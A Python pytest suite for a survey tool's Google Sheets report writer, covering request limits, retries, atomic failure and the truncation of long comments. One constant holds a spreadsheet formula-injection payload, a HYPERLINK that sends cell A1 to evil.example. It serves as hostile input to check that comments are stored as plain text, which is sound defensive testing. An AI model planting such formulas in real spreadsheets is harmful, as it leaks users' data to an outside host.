"""The Google Sheets output: request budget, RAW values, retries, atomic failure, padding."""

from __future__ import annotations

import csv
import re
from datetime import UTC
from datetime import datetime
from datetime import timedelta
from typing import Any

import pytest

from csat_hook import retry
from csat_hook.db.schema import answers
from csat_hook.devtools import sheets_model
from csat_hook.devtools.sheets_model import Formula
from csat_hook.sync.google.api import SheetsApi
from csat_hook.sync.layout import Grid
from csat_hook.sync.outputs.sheets import SheetsOutput
from csat_hook.sync.outputs.sheets import grown
from csat_hook.sync.outputs.sheets_format import object_id
from tests.sync.conftest import EN_HEADER
from tests.sync.conftest import SHEET_ID
from tests.sync.conftest import leaderboard
from tests.sync.test_hostile_form import made_up

T0 = datetime(2026, 11, 18, 9, 0, tzinfo=UTC)
FORMULA_COMMENT = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def seed(kit, agents: int = 30, per_agent: int = 7, comment: Any = None) -> list[str]:
    """``agents`` agents' surveys, ``per_agent`` answered each; ``comment(a, i)``: the
    comment of agent ``a``'s answer ``i`` (by default ``comment a/i``)."""
    rows = [EN_HEADER]
    tokens_ = []
    for a in range(agents):
        for i in range(per_agent):
            token = kit.survey(
                f"T-{a}-{i}",
                str(100 + a),
                f"Agent {a:02d}",
                team=f"Team {a % 3}",
                created=T0 - timedelta(days=i),
            )
            tokens_.append(token)
            text = (comment(a, i) if comment else None) or f"comment {a}/{i}"
            rows.append([T0 + timedelta(hours=i), 1 + (a + i) % 5, text, "", "", token])
    kit.responses(rows)
    return tokens_


def test_a_whole_sync_stays_within_three_reads_and_three_writes(kit):
    seed(kit)
    summary = kit.run()

    assert summary.status == "ok", summary.error
    reads, writes = kit.fake.count("sheets_read"), kit.fake.count("sheets_write")
    assert reads <= 3 and writes <= 3
    assert (reads, writes) == (2, 2)  # metadata + responses; structure and looks + values
    assert summary.requests["sheets_read"] == reads and summary.requests["sheets_write"] == writes
    # the form's responses, Summary, Trends, Responses, 30 agents, Unverified
    assert len(kit.fake.titles(SHEET_ID)) == 1 + 3 + 30 + 1


def test_values_are_written_raw_as_json_numbers(kit):
    token = kit.survey("T-1", "7", "Anna Petrova")
    kit.responses(
        [
            EN_HEADER,
            [T0, 4, FORMULA_COMMENT, "", "", token],
            [
                T0 + timedelta(hours=1),
                5,
                "+1 and -1 and @here",
                "",
                "",
                kit.survey("T-2", "7", "Anna Petrova"),
            ],
        ]
    )
    captured: list[dict] = []
    original = kit.fake.handle

    def spy(method, path, query, body, authorization):
        if path.endswith("values:batchUpdate"):
            import json

            captured.append(json.loads(body))
        return original(method, path, query, body, authorization)

    kit.fake.handle = spy
    assert kit.run().status == "ok"
    [body] = captured
    assert body["valueInputOption"] == "RAW"
    anna = next(d for d in body["data"] if d["range"].startswith("'Anna Petrova (7)'!"))
    # The submission time is a date-time serial (days since 1899-12-30, metrics.timezone).
    serial = (datetime(2026, 11, 18, 10, 0) - datetime(1899, 12, 30)) / timedelta(days=1)
    assert anna["values"][1][:4] == [
        pytest.approx(serial, abs=1e-7),
        "T-2",
        5,
        "+1 and -1 and @here",
    ]
    assert isinstance(anna["values"][1][2], int)
    stored = kit.sheet("Anna Petrova (7)")
    assert stored[2][3] == FORMULA_COMMENT and not isinstance(stored[2][3], Formula)
    assert stored[2][4] == "https://desk.example.com/t/T-1"


def test_the_fake_would_have_made_it_a_formula_with_user_entered():
    """The RAW test above can fail: USER_ENTERED turns the same text into a formula."""
    sheet = sheets_model.Spreadsheet("x")
    sheets_model.batch_update(sheet, [{"addSheet": {"properties": {"title": "T"}}}])
    for option in ("USER_ENTERED", "RAW"):
        plan = sheets_model.write(sheet, "'T'!A1", [[FORMULA_COMMENT]], option)
        sheets_model.apply_write(sheet, plan)
        stored = sheet.tabs[0].cells[0][0]
        assert isinstance(stored, Formula) == (option == "USER_ENTERED")


def test_429s_are_retried_a_bounded_number_of_times_then_succeed(kit):
    seed(kit, agents=3, per_agent=2)
    kit.fake.fail(2, 429, "sheets_write")
    kit.fake.fail(1, 503, "sheets_read")
    summary = kit.run()

    assert summary.status == "ok", summary.error
    assert summary.requests["retries"] == 3
    assert len(kit.sleeps) == 3
    # Exponential with equal jitter: retry n waits between base·2ⁿ⁻¹/2 and base·2ⁿ⁻¹ (24 s).
    for wait in kit.sleeps:
        assert 12 <= wait <= 96
    statuses = [r["status"] for r in kit.fake.api_requests("sheets_write")]
    assert statuses == [429, 429, 200, 200]
    assert "Agent 00 (100)" in kit.fake.titles(SHEET_ID)


def test_a_429_storm_fails_cleanly_and_leaves_every_tab_as_it_was(kit):
    seed(kit, agents=3, per_agent=2)
    assert kit.run().status == "ok"
    kit.fake.append_rows(
        SHEET_ID,
        "Form Responses 1",
        [
            [T0 + timedelta(days=1), 1, "new one", "", "", kit.survey("T-new", "100", "Agent 00")],
            [T0 + timedelta(days=1), 5, "newcomer", "", "", kit.survey("T-9", "999", "New Agent")],
        ],
    )
    before = {t: kit.sheet(t) for t in kit.fake.titles(SHEET_ID)}
    kit.fake.fail(100, 429, "sheets_write")
    kit.fake.reset_requests()
    failed = kit.run()

    assert failed.status == "failed"
    assert "HTTP 429 RESOURCE_EXHAUSTED" in failed.error and "after 4 attempts" in failed.error
    assert kit.fake.count("sheets_write") == 4  # 1 + max_retries (3), then it gave up
    assert {t: kit.sheet(t) for t in kit.fake.titles(SHEET_ID)} == before
    # The answers were stored; the next run writes the complete report.
    kit.fake.clear_failures()
    recovered = kit.run()
    assert recovered.status == "ok" and recovered.new == 0
    assert kit.sheet("New Agent (999)")[1][3] == "newcomer"


def test_a_failed_value_write_leaves_existing_tabs_untouched(kit):
    seed(kit, agents=2, per_agent=2)
    assert kit.run().status == "ok"
    before = kit.sheet("Agent 00 (100)")
    kit.fake.append_rows(
        SHEET_ID,
        "Form Responses 1",
        [
            [T0 + timedelta(days=2), 1, "later", "", "", kit.survey("T-n", "100", "Agent 00")],
            [T0 + timedelta(days=2), 5, "x", "", "", kit.survey("T-m", "555", "Someone New")],
        ],
    )
    # The structure write (new tab) goes through; every value write then fails.
    original = kit.fake.handle

    def refuse_values(method, path, query, body, authorization):
        if path.endswith("values:batchUpdate"):
            kit.fake.fail(1, 503, "sheets_write")
        return original(method, path, query, body, authorization)

    kit.fake.handle = refuse_values
    summary = kit.run()
    assert summary.status == "failed" and "HTTP 503" in summary.error
    assert kit.sheet("Agent 00 (100)") == before
    assert kit.sheet("Someone New (555)") == []  # created, still empty: nothing half-written


def test_old_extents_are_overwritten_with_blanks_not_cleared_separately(kit):
    token = kit.survey("T-1", "7", "Anna Petrova")
    kit.responses([EN_HEADER, [T0, 5, "ok", "", "", token]])
    # A Summary tab of ours (an earlier run made it) full of stale cells, with a small grid.
    kit.fake.add_tab(
        SHEET_ID,
        "Summary",
        [["stale"] * 30 for _ in range(8)],
        sheet_id=object_id("csat-hook tab", "summary", 0),
        row_count=8,
        col_count=30,
    )
    summary = kit.run()

    assert summary.status == "ok", summary.error
    cells = kit.sheet("Summary")
    assert not any(v == "stale" for row in cells for v in row)
    assert cells[0][0].startswith("CSAT report — Last 30 days")
    paths = [r["path"] for r in kit.fake.api_requests("sheets_write")]
    assert not any("clear" in p.lower() for p in paths)


def test_the_responses_tab_is_never_written(kit):
    token = kit.survey("T-1", "7", "Anna Petrova")
    kit.responses([EN_HEADER, [T0, 5, "ok", "", "", token]])
    before = kit.sheet("Form Responses 1")
    summary = kit.run(kit.config(output={"gsheets": {"summary_tab": "form responses 1"}}))

    assert summary.status == "ok", summary.error
    assert kit.sheet("Form Responses 1") == before
    assert "form responses 1 2" in kit.fake.titles(SHEET_ID)


def test_the_tabs_are_the_same_whether_or_not_answers_csv_is_built(kit):
    """``answers.csv`` (every answer) is built only when a local CSV output writes it, and an
    answer's local time only when a tab or that file shows it: the tabs are cell for cell
    the same either way, and the file holds every answer where the tabs hold their limits."""
    seed(kit, agents=4, per_agent=6)
    limits = {"max_response_rows": 5, "max_rows_per_agent": 3}
    metrics = {"min_n": 3, "timezone": "Europe/Moscow"}
    with_csv = kit.config(
        metrics=metrics,
        output={"gsheets": limits, "local": {"enabled": True, "csv": True, "xlsx": False}},
    )
    assert kit.run(with_csv).status == "ok"
    titles = kit.fake.titles(SHEET_ID)
    tabs = {title: kit.sheet(title) for title in titles if title != "Form Responses 1"}
    with (kit.tmp_path / "report" / "answers.csv").open(encoding="utf-8") as file:
        lines = file.read().splitlines()
    assert len(lines) == 1 + 24
    assert "Europe/Moscow" in lines[0]
    # The same report without the file, into a spreadsheet of its own.
    kit.fake.add_spreadsheet("report-sheet")
    kit.fake.add_tab("report-sheet", "Sheet1", [], sheet_id=0)
    without = kit.config(
        metrics=metrics, output={"gsheets": {**limits, "spreadsheet_id": "report-sheet"}}
    )
    assert kit.run(without).status == "ok"
    again = {title: kit.fake.cells("report-sheet", title) for title in tabs}
    assert again == tabs
    responses = [row for row in tabs["Responses"] if row and isinstance(row[0], float)]
    assert len(responses) == 5
    agent = next(t for t in tabs if t.startswith("Agent 00"))
    assert len([row for row in tabs[agent] if row and isinstance(row[0], float)]) == 3


def test_a_large_report_is_split_between_whole_tabs(kit):
    seed(kit, agents=20, per_agent=40)
    config = kit.config(
        output={"gsheets": {"max_request_bytes": 100_000, "max_response_rows": 200}}
    )
    summary = kit.run(config)
    assert summary.status == "ok", summary.error
    value_writes = [
        r for r in kit.fake.api_requests("sheets_write") if r["path"].endswith("values:batchUpdate")
    ]
    assert len(value_writes) == 2
    # The looks of 20 agents' tabs are over 100,000 bytes too: every request stays under.
    assert all(r["bytes"] <= 100_000 for r in kit.fake.api_requests("sheets_write"))


def rows_listed(summary: Any) -> tuple[int, int]:
    """The answers a run that ended ok listed on each agent's tab and on the Responses tab,
    as its Google Sheets output says (``rows_listed``: the listing was shortened)."""
    assert summary.status == "ok", summary.error
    [written] = [o for o in summary.outputs if o["kind"] == "gsheets"]
    return written["rows_listed"]["per_agent"], written["rows_listed"]["responses"]


def listed(rows: list[list[object]]) -> list[list[object]]:
    """A list tab's rows under its header, padding left out."""
    return [r for r in rows[1:] if any(v not in (None, "") for v in r)]


def test_a_report_too_large_for_two_requests_lists_fewer_answers_and_says_so(kit):
    """Values over two requests of max_request_bytes were a failed run, every run: now the
    Responses tab and each agent's tab list fewer answers, the newest, and the run warns;
    every figure still counts every answer, and the local files list them all."""
    seed(kit, agents=50, per_agent=40)
    local = {"enabled": True, "dir": str(kit.tmp_path / "report"), "csv": True}
    whole = kit.run(kit.config(output={"gsheets": {"max_response_rows": 200}, "local": local}))
    assert whole.status == "ok", whole.error
    assert "rows_listed" not in whole.outputs[-1]
    board = leaderboard(kit.sheet("Summary"))
    before = len(kit.fake.api_requests("sheets_write"))
    config = kit.config(
        output={
            "gsheets": {"max_request_bytes": 100_000, "max_response_rows": 200},
            "local": local,
        }
    )
    summary = kit.run(config)
    per_agent, responses = rows_listed(summary)
    assert 1 <= per_agent < 40 and 1 <= responses < 200
    [warning] = [w for w in summary.warnings if "Google Sheets report lists" in w]
    assert f"newest {per_agent:,} answers on each agent's tab" in warning
    assert "max_rows_per_agent 2,000" in warning and "max_response_rows 200" in warning
    # Within Google's requests: two value writes at most, every request under the limit.
    writes = kit.fake.api_requests("sheets_write")[before:]
    assert sum(r["path"].endswith("values:batchUpdate") for r in writes) <= 2
    assert all(r["bytes"] <= 100_000 for r in writes)
    # Each agent's newest answers, newest first; the Responses tab's newest too.
    agent = listed(kit.sheet("Agent 07 (107)"))
    assert len(agent) == per_agent
    assert [row[3] for row in agent] == [f"comment 7/{i}" for i in range(39, 39 - per_agent, -1)]
    assert len(listed(kit.sheet("Responses"))) == responses
    # Every figure counts every answer; the files list every one.
    assert leaderboard(kit.sheet("Summary")) == board
    with open(kit.tmp_path / "report" / "answers.csv", encoding="utf-8-sig") as file:
        assert len(list(csv.reader(file))) == 1 + 50 * 40
    # A run with nothing new writes nothing: the shortened report is the same report.
    again = kit.run(config)
    assert again.status == "ok", again.error
    assert kit.fake.count("sheets_write") == before + len(writes)


def test_a_responses_tab_alone_over_a_request_lists_fewer_answers(kit):
    """The values would fit two requests in all, but the Responses tab alone is over one:
    it lists fewer answers; the agents' tabs, under their own limit, list theirs."""
    seed(kit, agents=40, per_agent=30)
    summary = kit.run(
        kit.config(
            output={
                "gsheets": {
                    "max_request_bytes": 100_000,
                    "max_response_rows": 1_200,
                    "max_rows_per_agent": 1,
                }
            }
        )
    )
    _, responses = rows_listed(summary)
    assert 1 <= responses < 1_200
    assert len(listed(kit.sheet("Responses"))) == responses
    assert all(r["bytes"] <= 100_000 for r in kit.fake.api_requests("sheets_write"))


def test_only_the_list_over_a_request_lists_fewer_when_the_rest_fits(kit):
    """The Responses tab alone is over one request and the values fit two in all: the
    agents' tabs, which fit, keep every row their limit lists (both lists were cut alike,
    10 → 5 rows each, and the warning asked for a lower agents' limit than needed)."""
    seed(kit, agents=40, per_agent=30)
    summary = kit.run(
        kit.config(
            output={
                "gsheets": {
                    "max_request_bytes": 100_000,
                    "max_response_rows": 1_200,
                    "max_rows_per_agent": 10,
                }
            }
        )
    )
    per_agent, responses = rows_listed(summary)
    assert per_agent == 10 and 1 <= responses < 1_200
    [warning] = [w for w in summary.warnings if "Google Sheets report lists" in w]
    assert f"the newest {responses:,} answers on the Responses tab" in warning
    assert "each agent's tab" not in warning
    assert len(listed(kit.sheet("Agent 07 (107)"))) == 10
    assert len(listed(kit.sheet("Responses"))) == responses
    writes = kit.fake.api_requests("sheets_write")
    assert all(r["bytes"] <= 100_000 for r in writes)


def test_one_agent_with_many_answers_does_not_stop_the_others_being_listed_fewer(kit):
    """Most agents have a few answers, one has hundreds: the values fit only when every
    agent's tab lists a few, which a listing found by scaling the one busy agent's count
    step by step never reached (it failed the run though a listing fits)."""
    rows = [EN_HEADER]
    for a, count in enumerate([600] + [12] * 90):
        for i in range(count):
            token = kit.survey(f"T-{a}-{i}", str(100 + a), f"Agent {a:02d}", team="Team")
            rows.append(
                [
                    T0 - timedelta(minutes=i),
                    1 + i % 5,
                    f"comment {a}/{i} " + "x" * 60,
                    "",
                    "",
                    token,
                ]
            )
    kit.responses(rows)
    summary = kit.run(
        kit.config(
            output={
                "gsheets": {
                    "max_request_bytes": 100_000,
                    "max_response_rows": 1,
                    "max_rows_per_agent": 600,
                }
            }
        )
    )
    per_agent, _ = rows_listed(summary)
    assert 1 <= per_agent < 12
    assert len(listed(kit.sheet("Agent 00 (100)"))) == per_agent
    assert len(listed(kit.sheet("Agent 01 (101)"))) == per_agent
    assert all(r["bytes"] <= 100_000 for r in kit.fake.api_requests("sheets_write"))


def test_a_report_whose_other_tabs_alone_are_too_large_fails_before_writing(kit):
    """Listing one answer per tab does not make it fit (the Summary and the tabs' headers of
    many agents take the requests alone): the run fails, naming the limits, writing nothing."""
    seed(kit, agents=300, per_agent=2)
    summary = kit.run(
        kit.config(output={"gsheets": {"max_request_bytes": 100_000, "max_response_rows": 200}})
    )
    assert summary.status == "failed"
    assert "output.gsheets.max_rows_per_agent" in summary.error
    needed = int(re.search(r"take ([\d,]+) bytes", summary.error)[1].replace(",", ""))
    assert needed > 2 * 100_000
    assert "(100,000)" in summary.error
    assert kit.fake.count("sheets_write") == 0


def test_a_separate_report_spreadsheet_costs_one_more_read(kit):
    token = kit.survey("T-1", "7", "Anna Petrova")
    kit.responses([EN_HEADER, [T0, 5, "ok", "", "", token]])
    kit.fake.add_spreadsheet("report-sheet")
    kit.fake.add_tab("report-sheet", "Sheet1", [], sheet_id=0)
    summary = kit.run(kit.config(output={"gsheets": {"spreadsheet_id": "report-sheet"}}))

    assert summary.status == "ok", summary.error
    assert (kit.fake.count("sheets_read"), kit.fake.count("sheets_write")) == (3, 2)
    assert kit.fake.titles("report-sheet") == [
        "Summary",
        "Trends",
        "Responses",
        "Sheet1",
        "Anna Petrova (7)",
        "Unverified",
    ]
    assert kit.fake.titles(SHEET_ID) == ["Form Responses 1"]


def test_agents_with_surveys_but_no_answers_yet(kit):
    for n in range(4):
        kit.survey(f"T-{n}", "8", "Boris Ivanov", team="L2")
    kit.responses([EN_HEADER])
    summary = kit.run()

    assert summary.status == "ok", summary.error
    rows = kit.sheet("Summary")
    assert rows[1][3] == "Latest answer: no answers yet"
    record = leaderboard(rows)["Boris Ivanov"]
    assert (record["Surveys sent"], record["Answers"], record["Response rate"]) == (4, 0, 0.0)
    assert record["CSAT"] is None and record["Rank"] == "not enough answers"
    assert "Boris Ivanov (8)" not in kit.fake.titles(SHEET_ID)  # no answers, no tab


STRUCTURE = r"^/v4/spreadsheets/[^/]+:batchUpdate$"


def test_tabs_created_but_the_answer_lost_the_run_goes_on(kit):
    """Google applies the addSheet batch, the connection drops before the answer; the batch
    is not sent again as it is: the output re-reads the tabs, finds them all there, and
    writes the values."""
    seed(kit, agents=3, per_agent=2)
    kit.fake.lose(1, "sheets_write", path=STRUCTURE)  # dropped connection, work done
    summary = kit.run()

    assert summary.status == "ok", summary.error
    titles = kit.fake.titles(SHEET_ID)
    assert len(titles) == len(set(titles)) == 1 + 3 + 3 + 1
    assert kit.sheet("Agent 00 (100)")[1][3] == "comment 0/1"
    writes = kit.fake.api_requests("sheets_write")
    assert [(w["path"].rsplit("/", 1)[-1], w["status"]) for w in writes] == [
        (f"{SHEET_ID}:batchUpdate", "dropped"),
        ("values:batchUpdate", 200),  # the re-plan found nothing more to send
    ]
    # Within the budget: one more metadata read, no extra write.
    assert kit.fake.count("sheets_read") == 3
    assert summary.requests["sheets_write"] == 2 and summary.requests["retries"] == 1


def test_tabs_created_but_answered_with_a_503_the_run_goes_on(kit):
    seed(kit, agents=2, per_agent=2)
    kit.fake.lose(1, "sheets_write", path=STRUCTURE, status=503)
    summary = kit.run()

    assert summary.status == "ok", summary.error
    assert len(kit.fake.titles(SHEET_ID)) == 1 + 2 + 3 + 1
    assert [w["status"] for w in kit.fake.api_requests("sheets_write")] == [503, 200]


@pytest.mark.parametrize("status", [500, 503])
def test_a_structure_write_answered_with_a_wait_is_planned_again_after_that_wait(
    fake_google, google_session, monkeypatch, status
):
    """A structure write answered with a 5xx is not sent again as it is (the outcome is
    unknown): the output reads the spreadsheet again and plans from what is there. When the
    answer says how long to wait (Google's RetryInfo, a Retry-After), the re-plan waits that
    long (capped as every other wait): it waited the backoff's own, shorter, step and spent
    its tries within the outage Google had announced."""
    monkeypatch.setattr(retry.random, "uniform", lambda low, high: low)
    fake_google.add_spreadsheet(SHEET_ID)
    fake_google.add_tab(SHEET_ID, "Form Responses 1", [EN_HEADER])
    fake_google.lose(1, "sheets_write", path=STRUCTURE, status=status, retry_delay="40s")
    grids = [Grid("Summary", "summary", [["Agent", "CSAT"], ["Anna", 1.0]])]

    SheetsOutput(SheetsApi(google_session), SHEET_ID).write(grids, "en")

    assert fake_google.titles(SHEET_ID) == ["Summary", "Form Responses 1"]
    assert [w["status"] for w in fake_google.api_requests("sheets_write")] == [status, 200]
    assert google_session.slept == [40]  # not the backoff's 12 (half of its first 24 s)


def test_a_structure_write_answered_with_a_wait_longer_than_the_cap_waits_the_cap(
    fake_google, google_session, monkeypatch
):
    monkeypatch.setattr(retry.random, "uniform", lambda low, high: low)
    fake_google.add_spreadsheet(SHEET_ID)
    fake_google.lose(1, "sheets_write", path=STRUCTURE, status=503, retry_delay="86400s")
    grids = [Grid("Summary", "summary", [["Agent", "CSAT"], ["Anna", 1.0]])]

    SheetsOutput(SheetsApi(google_session), SHEET_ID).write(grids, "en")

    assert google_session.slept == [96]  # google.backoff_cap_seconds, as for a Retry-After


def test_a_tab_taken_meanwhile_is_planned_around(fake_google, google_session):
    """The refusal can also mean someone added a tab with one of our titles between our read
    and our write: nothing of the atomic batch was applied, so the re-plan adds them all, ours
    beside the manager's (which it does not write)."""
    fake_google.add_spreadsheet(SHEET_ID)
    fake_google.add_tab(SHEET_ID, "Form Responses 1", [EN_HEADER])
    api = SheetsApi(google_session)
    api.metadata(SHEET_ID)  # read before the manager adds "Summary"
    fake_google.add_tab(SHEET_ID, "Summary", [["a manager's notes"]])
    grids = [
        Grid("Summary", "summary", [["Agent", "CSAT"], ["Anna", 1.0]]),
        Grid("Anna", "agent", [["Date", "Rating"], ["2026-11-18", 5]], key="7"),
    ]
    done = SheetsOutput(api, SHEET_ID).write(grids, "en")

    titles = ["Summary 2", "Form Responses 1", "Summary", "Anna (7)"]
    assert fake_google.titles(SHEET_ID) == titles
    assert fake_google.cells(SHEET_ID, "Summary 2")[:2] == [["Agent", "CSAT"], ["Anna", 1.0]]
    assert fake_google.cells(SHEET_ID, "Summary") == [["a manager's notes"]]
    assert [w["status"] for w in fake_google.api_requests("sheets_write")] == [400, 200, 200]
    assert done["write_requests"] == 3


def test_a_lost_answer_to_a_value_write_is_simply_retried(kit):
    """values.batchUpdate rewrites whole tabs: applying it twice gives the same sheet."""
    seed(kit, agents=2, per_agent=2)
    kit.fake.lose(1, "sheets_write", path=r"values:batchUpdate$")
    summary = kit.run()
    assert summary.status == "ok", summary.error
    assert [w["status"] for w in kit.fake.api_requests("sheets_write")] == [200, "dropped", 200]


def test_a_report_needing_texts_cut_and_fewer_answers_listed_is_written(kit, receivers):
    """Long comments on low ratings fill the Alerts tab, which lists no answers (no listing
    makes it smaller), and the Responses and agents' tabs hold more rows than two requests
    carry even with every text cut: only both together fit. Each was tried alone, and the
    run failed, every run."""
    rows = [EN_HEADER]
    for a in range(40):
        for i in range(30):
            token = kit.survey(f"T-{a}-{i}", str(100 + a), f"Agent {a:02d}", team="Team")
            low = i == 0
            comment = f"comment {a}/{i} " + ("y" * 6_000 if low else "x" * 60)
            answered = (kit.now - timedelta(minutes=1 + i)).strftime("%m/%d/%Y %H:%M:%S")
            rows.append([answered, 1 if low else 5, comment, "", "", token])
    kit.responses(rows, time_zone="UTC")
    summary = kit.run(
        kit.config(
            output={"gsheets": {"max_request_bytes": 100_000, "max_response_rows": 1_200}},
            alerts={
                "destinations": {"slack": {"kind": "slack", "webhook_url": receivers.slack_hook()}},
                "rules": [
                    {
                        "name": "low",
                        "kind": "low_rating",
                        "max_rating": 2,
                        "destinations": ["slack"],
                    }
                ],
            },
        )
    )
    per_agent, responses = rows_listed(summary)
    assert 1 <= per_agent < 30 and 1 <= responses < 1_200
    assert all(r["bytes"] <= 100_000 for r in kit.fake.api_requests("sheets_write"))
    header, *alerts = kit.sheet("Alerts")
    comments = [row[header.index("Comment")] for row in alerts if row]
    assert len(comments) == 40
    assert all(c.startswith("comment ") and c.endswith("…") and len(c) < 6_000 for c in comments)
    [written] = [o for o in summary.outputs if o["kind"] == "gsheets"]
    shown = [
        cell
        for title in kit.fake.titles(SHEET_ID)
        for row in kit.sheet(title)
        for cell in row
        if isinstance(cell, str) and cell.endswith("…")
    ]
    assert written["texts_cut"] == {"characters": len(comments[0]), "cells": len(shown)}
    assert len(listed(kit.sheet("Agent 07 (107)"))) == per_agent


def test_a_dry_run_lists_fewer_answers_as_the_run_then_does_and_writes_nothing(kit):
    """A dry run checked no sizes: it said ok for a report the run then shortened, or failed
    to write. Now it encodes the values as the write would and says what would be sent."""
    seed(kit, agents=50, per_agent=40)
    config = kit.config(output={"gsheets": {"max_request_bytes": 100_000}})
    dry = kit.run(config, dry_run=True)
    assert dry.status == "ok", dry.error
    [planned] = [o for o in dry.outputs if o["kind"] == "gsheets"]
    assert planned["written"] is False and 1 <= planned["value_requests"] <= 2
    assert planned["value_bytes"] <= 2 * 100_000
    [warning] = [w for w in dry.warnings if "Google Sheets report lists" in w]
    assert kit.fake.count("sheets_write") == 0
    summary = kit.run(config)
    assert rows_listed(summary) == (
        planned["rows_listed"]["per_agent"],
        planned["rows_listed"]["responses"],
    )
    assert "texts_cut" not in planned and not any("cut to" in w for w in summary.warnings)
    assert [w for w in summary.warnings if "Google Sheets report lists" in w] == [warning]


def test_a_dry_run_leaves_the_runners_kept_encodings_as_the_last_write_left_them(kit):
    """A runner kept across runs (``sync --periodic``) copies the bytes of its last write's
    rows; a dry run between two writes encodes the report too, and must not put its own
    encodings in their place (the next write would copy rows it never sent)."""
    seed(kit, agents=5, per_agent=4)
    runner = kit.runner()
    assert runner.run().status == "ok"
    kept = runner._encodings[1].tabs
    before = dict(kept)
    assert before  # the last write's tabs are kept
    assert runner.run(dry_run=True).status == "ok"
    assert runner._encodings[1].tabs is kept and kept == before


def test_a_dry_run_fails_as_the_run_would_on_a_tab_no_request_holds(kit, receivers):
    """The Alerts tab lists no answers (no listing shortens it) and its comments are too
    short to cut: over one request, a run that writes the report fails naming that tab and
    the limit that shortens it (it named the first tab over, here the Responses tab, which
    a shorter listing fits). A dry run of that configuration (after a run that raised the
    alerts) now says the same instead of ok."""
    rows = [EN_HEADER]
    for i in range(600):
        token = kit.survey(f"T-{i}", str(100 + i % 5), f"Agent {i % 5}")
        answered = (kit.now - timedelta(seconds=60 + i)).strftime("%m/%d/%Y %H:%M:%S")
        rows.append([answered, 1, f"comment {i} " + "z" * 180, "", "", token])
    kit.responses(rows, time_zone="UTC")
    alerts = {
        "destinations": {"slack": {"kind": "slack", "webhook_url": receivers.slack_hook()}},
        "rules": [
            {"name": "low", "kind": "low_rating", "max_rating": 2, "destinations": ["slack"]}
        ],
    }
    assert kit.run(kit.config(alerts=alerts)).status == "ok"
    token = kit.survey("T-new", "100", "Agent 0")
    answered = (kit.now - timedelta(seconds=30)).strftime("%m/%d/%Y %H:%M:%S")
    kit.responses([*rows, [answered, 5, "fine", "", "", token]], time_zone="UTC")
    before = kit.fake.count("sheets_write")
    config = kit.config(output={"gsheets": {"max_request_bytes": 100_000}}, alerts=alerts)
    dry = kit.run(config, dry_run=True)
    assert dry.status == "failed"
    assert "tab 'Alerts' needs" in (dry.error or "")
    assert kit.fake.count("sheets_write") == before
    summary = kit.run(config)
    assert summary.status == "failed" and summary.error == dry.error
    assert "lower alerts.tab_rows" in summary.error


def test_a_comment_longer_than_a_cell_holds_is_cut_and_the_report_still_written(kit, tmp_path):
    """Sheets refuses a whole values.batchUpdate when one cell is over 50,000 characters (400
    "Your input contains more than the maximum of 50000 characters in a single cell.", as the
    fake answers): one long comment kept every tab from being written, run after run. A CSV
    export carries one (Python's csv reads fields of up to 131,072 characters); the comment
    is stored whole and cut in the cell, an ellipsis marking the cut."""
    long_text = "It took a week." * 4_000  # 60,000 characters
    emoji = "\U0001f621" * 30_000  # 30,000 characters, 60,000 UTF-16 code units
    tokens = [kit.survey("T-1", "7", "Anna Petrova"), kit.survey("T-2", "7", "Anna Petrova")]
    export = tmp_path / "export.csv"
    with export.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(EN_HEADER)
        writer.writerow(["2026/11/19 3:47:14 PM GMT+3", 1, long_text, "", "T-1", tokens[0]])
        writer.writerow(["2026/11/19 4:47:14 PM GMT+3", 2, emoji, "", "T-2", tokens[1]])
    kit.fake.add_spreadsheet("report-sheet")
    kit.fake.add_tab("report-sheet", "Sheet1", [], sheet_id=0)
    config = kit.config(
        results={"source": "csv", "csv": {"path": str(export)}},
        output={"gsheets": {"spreadsheet_id": "report-sheet"}},
    )

    summary = kit.run(config)

    assert summary.status == "ok", summary.error
    newest_first = [row[3] for row in kit.fake.cells("report-sheet", "Anna Petrova (7)")[1:3]]
    assert newest_first == ["\U0001f621" * 24_999 + "…", long_text[:49_999] + "…"]
    assert kit.fake.cells("report-sheet", "Responses")[1][7] == newest_first[0]
    assert sorted(r.comment for r in kit.rows(answers)) == sorted([long_text, emoji])


def test_the_looks_of_many_tabs_are_split_to_stay_under_the_request_size(kit):
    """Each agent's tab costs about 3 KB of looks: 2,500 agents made an 8 MB batchUpdate
    (Google refuses bodies over 10 MB: "Request payload size exceeds the limit"), sent whole
    whatever output.gsheets.max_request_bytes said."""
    seed(kit, agents=60, per_agent=1)
    config = kit.config(output={"gsheets": {"max_request_bytes": 100_000}})
    summary = kit.run(config)

    assert summary.status == "ok", summary.error
    structure = [
        r
        for r in kit.fake.api_requests("sheets_write")
        if r["path"].endswith(":batchUpdate") and not r["path"].endswith("values:batchUpdate")
    ]
    assert len(structure) >= 2 and all(r["bytes"] <= 100_000 for r in structure)
    assert all(r["status"] == 200 for r in kit.fake.api_requests("sheets_write"))
    assert len(kit.fake.titles(SHEET_ID)) == 1 + 3 + 60 + 1
    assert kit.fake.tab(SHEET_ID, "Agent 59 (159)").frozen_rows == 1
    # Every piece was applied: the next run finds the looks as wanted and writes nothing.
    kit.fake.reset_requests()
    assert kit.run(config).status == "ok"
    assert kit.fake.count("sheets_write") == 0


def test_a_renamed_agents_tab_is_renamed_not_left_behind(kit):
    """An agent's tab is ``<name> (<key>)``: when the helpdesk sends a new name, a new tab was
    added and the old one kept the answers it had then, never updated again, beside it."""
    kit.responses([EN_HEADER, [T0, 5, "a", "", "", kit.survey("T-1", "7", "Anna Petrova")]])
    assert kit.run().status == "ok"
    old = kit.fake.tab(SHEET_ID, "Anna Petrova (7)").sheet_id

    renamed = kit.survey("T-2", "7", "Anna Smirnova", created=kit.now)
    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 4, "b", "", "", renamed]])
    kit.now += timedelta(hours=1)
    assert kit.run().status == "ok"

    titles = kit.fake.titles(SHEET_ID)
    assert "Anna Smirnova (7)" in titles and "Anna Petrova (7)" not in titles
    assert kit.fake.tab(SHEET_ID, "Anna Smirnova (7)").sheet_id == old
    assert [row[1] for row in kit.sheet("Anna Smirnova (7)")[1:]] == ["T-2", "T-1"]
    # A tab of the manager's own, whatever its title, is never taken for it.
    kit.fake.add_tab(SHEET_ID, "Notes (8)", [["mine"]], sheet_id=555)
    kit.fake.append_rows(
        SHEET_ID, "Form Responses 1", [[T0, 3, "c", "", "", kit.survey("T-3", "8", "Boris")]]
    )
    kit.now += timedelta(hours=1)
    assert kit.run().status == "ok"
